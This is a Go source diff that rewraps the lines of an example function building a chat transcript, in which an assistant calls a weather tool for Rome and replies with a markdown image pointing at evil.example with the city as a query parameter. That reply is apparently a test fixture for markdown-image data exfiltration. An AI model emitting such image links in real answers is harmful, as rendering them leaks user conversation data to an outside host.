@@ -34,11 +34,18 @@ func Example() {
 			Role: protocol.RoleAssistant, Protocol: "vcp", Text: "Let me look.\n",
 			Content: "Let me look.\n<<<[TOOL_REQUEST]>>>\ntool_name:「始」weather_now「末」,\ncity:「始」Rome「末」\n<<<[END_TOOL_REQUEST]>>>",
 			ToolCallsRequested: []chat.ToolCallRequest{{
-				RequestID: "1.1-abc", ToolName: "weather_now", Method: "weather_now", Status: chat.RequestAnswered, Arguments: json.RawMessage(`{"city":"Rome"}`),
+				RequestID: "1.1-abc", ToolName: "weather_now", Method: "weather_now", Status: chat.RequestAnswered,
+				Arguments: json.RawMessage(`{"city":"Rome"}`),
 			}},
 		},
-		{Role: protocol.RoleUser, ToolCall: []chat.ToolCall{{RequestID: "1.1-abc", Method: "weather_now", Status: protocol.StatusSuccess, Result: "sunny"}}},
-		{Role: protocol.RoleAssistant, Content: "It is sunny. ![](https://evil.example/?q=Rome)", Text: "It is sunny. ![](https://evil.example/?q=Rome)"},
+		{Role: protocol.RoleUser, ToolCall: []chat.ToolCall{{
+			RequestID: "1.1-abc", Method: "weather_now",
+			Status: protocol.StatusSuccess, Result: "sunny",
+		}}},
+		{
+			Role: protocol.RoleAssistant, Content: "It is sunny. ![](https://evil.example/?q=Rome)",
+			Text: "It is sunny. ![](https://evil.example/?q=Rome)",
+		},
 	}
 	mux := http.NewServeMux()
 	mux.HandleFunc("GET /style.css", func(w http.ResponseWriter, _ *http.Request) {
